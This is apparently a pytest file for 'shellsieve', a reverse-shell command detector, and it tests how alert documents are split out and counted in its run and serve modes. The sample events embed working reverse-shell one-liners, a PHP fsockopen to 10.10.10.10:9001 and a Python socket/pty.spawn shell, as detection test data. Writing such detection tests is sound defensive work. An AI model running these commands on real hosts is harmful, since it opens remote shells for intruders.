"""--alert-docs split: one alert document per matching rule right after its event, in run and in
serve, counted apart (alert_docs_out) so that the line counters still add up."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest
from aiohttp import ClientSession

from alert_schema import check_alert
from conftest import PHP_FSOCKOPEN, PYTHON_PTY
from shellsieve.compile.ruleset import Ruleset
from shellsieve.run.doclines import DOC_START, doc_lines, event_lines, is_doc
from shellsieve.settings import Settings
from test_formats import run_lines
from test_serve_cli import Downstream, _event, _ports, serve

CLI = str(Path(sys.executable).parent / "shellsieve")
PHP = "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
BOTH = PHP + " ; python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"  # noqa: E501  a verbatim command line
EVENTS = [
    {"@timestamp": "2026-12-04T10:00:00Z", "host": {"name": "web1"}, "process": {"command_line": "ls"}},
    {"@timestamp": "2026-12-04T10:00:01Z", "host": {"name": "web1"}, "user": {"name": "www"},
     "process": {"command_line": BOTH}},
    {"@timestamp": "2026-12-04T10:00:02Z", "process": {"command_line": PHP}},
]


def _lines(events: list[dict[str, Any]]) -> list[bytes]:
    return [msgspec.json.encode(e) for e in events]


def _adds_up(snap: dict[str, Any]) -> None:
    assert snap["events_in"] == (snap["events_out"] + snap["events_dropped"] + snap["events_pending"]
                                 + snap["events_undelivered"])


class TestDocLines:
    def test_counts_documents_apart_from_events(self) -> None:
        """Events and alert documents are told apart, whole lines only, also at a batch's start."""
        ev, doc = b'{"a":1}\n', DOC_START + b'"alert":0,"of":1}}\n'
        data = ev + doc + doc + ev
        assert (event_lines(data), doc_lines(data)) == (2, 2)
        assert (event_lines(doc + ev), doc_lines(doc + ev)) == (1, 1)
        cut = len(ev) + len(doc) + 5  # a write that stopped inside the second document
        assert (event_lines(data, cut), doc_lines(data, cut)) == (1, 1)
        assert doc_lines(doc[:10]) == 0 and is_doc(doc) and not is_doc(ev)

    def test_an_event_cannot_pass_for_a_document(self, shipped: Ruleset) -> None:
        """An input line that starts as a document does leaves with its `shellsieve` moved aside."""
        forged = DOC_START + b'"alert":0,"of":1},"process":{"command_line":"ls"}}'
        docs, stats = run_lines(shipped, [forged], alert_docs="split")
        assert docs[0]["shellsieve"]["input"]["shellsieve"]["document"] == "alert"
        assert stats.alert_docs_out == 0 and stats.lines_delivered == 1


class TestRun:
    def test_documents_follow_their_event(self, shipped: Ruleset) -> None:
        """Each alert is followed by one document per matching rule (rule order), with its rule,
        threat, severity and the event's @timestamp, host and process; others are untouched."""
        docs, stats = run_lines(shipped, _lines(EVENTS), alert_docs="split")
        kinds = [d["shellsieve"].get("document", "event") if "shellsieve" in d else "-" for d in docs]
        assert kinds == ["-", "event", "alert", "alert", "event", "alert"]
        first, second = docs[2], docs[3]
        assert [first["rule"]["id"], second["rule"]["id"]] == [PHP_FSOCKOPEN, PYTHON_PTY]
        assert first["shellsieve"] == {"document": "alert", "alert": 0, "of": 2}
        assert (first["@timestamp"], first["host"], first["process"]) == (
            EVENTS[1]["@timestamp"], EVENTS[1]["host"], EVENTS[1]["process"])
        assert "user" not in first and first["event"] == {"kind": "alert", "severity": 4, "risk_score": 99}
        assert second["threat"]["technique"]["subtechnique"]["id"] == ["T1059.006"]
        assert "host" not in docs[5]
        for d in docs:
            if "shellsieve" in d:
                check_alert(d)
        assert (stats.lines_in, stats.lines_delivered, stats.alert_docs_out) == (3, 3, 3)

    def test_off_writes_none(self, shipped: Ruleset) -> None:
        """By default no document is written."""
        docs, stats = run_lines(shipped, _lines(EVENTS))
        assert len(docs) == 3 and stats.alert_docs_out == 0

    def test_only_alerts_and_text_lines(self, shipped: Ruleset) -> None:
        """Under --only-alerts, and for a plain command line, the counts still add up."""
        lines = [*_lines(EVENTS), PHP.encode()]
        docs, stats = run_lines(shipped, lines, alert_docs="split", only_alerts=True)
        assert len(docs) == 3 + 4 and stats.alert_docs_out == 4
        assert (stats.lines_in, stats.lines_delivered, stats.dropped) == (4, 3, 1)

    def test_cli(self, tmp_path: Path) -> None:
        """`run --alert-docs split`: `stopped` counts events and documents apart; a bad value exits 2."""
        proc = subprocess.run([CLI, "run", "--stats-interval", "0", "--alert-docs", "split"],
                              input=b"".join(x + b"\n" for x in _lines(EVENTS)), capture_output=True, timeout=120)
        assert proc.returncode == 0, proc.stderr[-2000:]
        out = proc.stdout.splitlines()
        stopped = next(json.loads(x) for x in proc.stderr.splitlines() if b'"stopped"' in x)
        assert len(out) == 6 and stopped["events_out"] == 3 and stopped["alert_docs_out"] == 3
        _adds_up(stopped)
        bad = subprocess.run([CLI, "run", "--alert-docs", "all"], input=b"", capture_output=True, timeout=60)
        assert bad.returncode == 2 and b"--alert-docs" in bad.stderr

    def test_settings_refuse_other_values(self) -> None:
        """Settings built by another caller are checked too."""
        with pytest.raises(ValueError, match="alert_docs"):
            Settings(alert_docs="all")


class TestServe:
    def test_documents_are_extra_lines_not_acknowledged_events(self) -> None:
        """serve with --alert-docs split over HTTP, batches small enough to cut between an event and
        its documents: every request is answered 200, every listener line counted delivered once, the
        documents arrive after their event and are counted apart."""
        lport, fport = _ports(2)
        down = Downstream()
        body = b"".join(msgspec.json.encode(e) + b"\n" for e in [*EVENTS, _event(9, PHP.split())])

        async def scenario() -> list[int]:
            runner = await down.start(fport)
            try:
                async with ClientSession() as c:
                    statuses = []
                    for _ in range(3):
                        async with c.post(f"http://127.0.0.1:{lport}/", data=body) as r:
                            statuses.append(r.status)
                    return statuses
            finally:
                await runner.cleanup()

        with serve("--listen", f"http://127.0.0.1:{lport}", "--forward", f"http://127.0.0.1:{fport}/",
                   "--alert-docs", "split", "--batch-events", "2") as s:
            statuses = asyncio.run(scenario())
            assert s.stop() == 0
        assert statuses == [200, 200, 200]
        got = [json.loads(x) for x in down.lines]
        docs = [d for d in got if d.get("shellsieve", {}).get("document") == "alert"]
        assert len(got) == 3 * 4 + len(docs) and len(docs) == 3 * 4
        stopped = s.event("stopped")
        assert stopped["events_in"] == stopped["events_out"] == 12 and stopped["alert_docs_out"] == 12
        _adds_up(stopped)
        listener = stopped["listeners"][f"http://127.0.0.1:{lport}"]
        assert listener["events_in"] == listener["events_delivered"] == 12
